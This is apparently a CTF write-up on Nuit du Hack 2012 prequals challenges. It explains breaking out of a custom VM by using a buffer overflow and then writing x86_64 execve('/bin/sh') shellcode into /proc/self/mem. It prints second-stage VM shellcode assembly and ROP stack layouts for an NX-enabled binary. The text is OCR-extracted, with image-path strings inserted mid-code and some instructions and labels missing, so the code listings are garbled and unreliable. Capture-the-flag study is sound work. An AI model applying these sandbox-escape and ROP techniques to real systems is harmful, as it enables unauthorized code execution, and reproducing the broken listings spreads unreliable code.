This article was co-authored with Samuel Chevet.

During the Nuit du Hack 2012 Prequals contest, we often had to remote exploit some services running in a custom VM (which was recently released on GitHub). After injecting a shellcode in the services (through a remote stack buffer overflow) we were able to run VM code, which can execute interesting syscalls: readwriteopenexit, and a lot more. However there was not a way to directly execute a random x86 binary or to list directories (no getdents), which made it really hard to explore the server filesystem.

After the event ended we got an idea that we could have used to bypass this security and execute any shell command line on the remote server. Using /proc/self/cmdline, we can get the path to the VM binary and download it. Then, using /proc/self/mem we can replace some symbols from the binary by our custom x86 code. This method works because without the grsecurity patchset /proc/self/mem completely overrides NX and allows writing to read-only memory locations (like .text).

We wrote an exploit for exploit-me2.ndh which does the following thing:

  • First, exploit the buffer overflow by sending a 102 chars string which will fill up the 100 bytes buffer and overwrite the stack pointer by the buffer start address. The buffer contains a shellcode which will load a second stage shellcode to memory. We had to do that because our main shellcode is bigger than 100 bytes. This VM code is loaded at offset 0x7800, below pie_base to avoid crashing the VM.

  • Then, the second stage exploit opens/proc/self/mem, seeks to the op_end symbol location (VM instruction handler for END (0x1C)) and writes an x86_64 execve("/bin/sh") shellcode at this location. Seeking is not an easy task though as we can only manipulate 16 bits values inside the VM. Luckily the VM .text is at a very low address and we were able to use this at our advantage: for example, to seek to 0x4091bc, we do a loop to seek forward 0xFFFF 64 times then seek forward once more by 0x91fc. After our shellcode replaced the end instruction, we execute the 0x1C opcode to run our code.

Here is the second stage shellcode asm (first stage is really not that interesting):

; Open /proc/self/mem
movb r0, #0x02
movl r1, #strmovb r2, #0x02
mov r1, r0

movb r0, #0x11  ; SYS_seek
movb r2, #0x0   ; offset
movb r3, #0x0   ; SEEK_SET

; Seek to 0x40 * 0xFFFF = 0x3fffc0
movl r2, #0xFFFF; offset
movb r3, #0x1   ; SEEK_CUR
movb r5, #0x40
    movb r0, #0x11  ; SYS_seek

    dec r5
    test r5, r5
    jnz loop

; Seek forward to0x4091bc == 0x40 * 0xFFFF + 0x91fc
movb r0, #0x11
movl r2, #0x91fc

; Write NULL to the address
movb r0, #0x04
movl r2, #shellcode
movb r3, #0x21


str: .asciz "/proc/self/mem"

This exploit works fine when the VM allows execution of writable pages (NX not enabled). exploit-me2.ndh does not uses NX so this exploit works fine to exploit this binary. However, we were interested to see if we could reproduce this exploit on an NX enabled binary, like web3.ndh.

The difficulty here is that you obviously can’t simply write your VM shellcode to memory and run it. You need to use ROP technics to run the code you want. The web3.ndh binary contains a lot of interesting functions and gadgets to ROP to so this was not as hard as expected.

This binary reads a 1020 bytes buffer, which is definitely enough for a simple shellcode but not enough for our ROP shellcode which can’t easily do loops. This time again we built a two stage exploit: first stage does part of the job and calls read(2) to load a second stage which does the rest of the work.

We built our first stage exploit stack like this:

7BF4    /proc/self/mem      # required string constant
    ... padding ...
7DF4    0xBEEF              # /GS canary

7DF6    0x8198              # offset to POP R1; POP R0; RET
7DF8    0x0002              # O_RDWR
7DFA    0x7BF4              # offset to /proc/self/mem
7DFC    0x81CA              # "open" function

7DFE    0x8174              # offset to POP R2; POP R1; RET
7E00    0x0000              # SEEK_SET
7E02    0x0000              # seek to 0
7E04    0x81EA              # "seek" function[repeated 0x28 times]
        0x82C4              # offset to POP R2; RET
        0xFFFF              # seek 0xFFFF forward
        0x80FF              # offset to POP R3; RET
        0x0001              # SEEK_CUR
        0x81F9              # "lseek" function + 0xF to preserve regs
        0x4242              # dummy for a POP in lseek

7FE6    0x84ED              # "receive data" function
7FE8    0xFFFF              # padding
7FEA    0xFFFF              # paddingThis does 0x28 / 0x40 of the required seeks, then recalls the vulnerable data receive function to load the second stage stack which is placed just after on stdin:

7BE0    0xFFFF              # padding
7BE2    0xFFFF              # padding

7BE4    [x86_64 execve(/bin/sh) shellcode + padding]
7DE4    0xBEEF              # /GS canary

7DE6    0x8176              # offset to POP R1; RET
7DE8    0x0003              # hardcoded /proc/self/mem fd (haxx)

[repeated 0x18 times]0x82C4              # offset to POP R2; RET
        0xFFFF              # seek 0xFFFF forward
        0x80FF              # offset to POP R3; RET
        0x0001              #SEEK_CUR
        0x81F9              # "lseek" function + 0xF to preserve regs
        0x4242              # dummy for a POP in lseek

7F0A    0x82C4              # POP R2; RET
7F0C    0x91FC              # last required offset
7F0E    0x80FF              # POP R3; RET
7F100x0001              # SEEK_CUR
7F12    0x81F9              # "lseek" + 0xF7F14    0x4242              # dummy for a POP in lseek

7F16    0x82C4              # POP R2; RET
7F18    0x7BE4              # offset to shellcode
7F1A    0x80FF              # POP R3; RET
7F1C    0x0021              # shellcode length
7F1E    0x8193              # "write" syscall in the middle of a function
7F20    0x4242              # dummy for a POP
7F22    0x4242              # dummy for a POP

7F24    0x838c              # offset to END, which executes our x86 expl

    ... padding ...

7FE0    [shell command to execute]

Last step is to be able tobypass ASLR + NX. We weren’t able to do this yet, but we are confident that we could do it with some more work.

/proc/self/mem is really a powerful attack vector when you have to bypass things like NX on a vanilla kernel!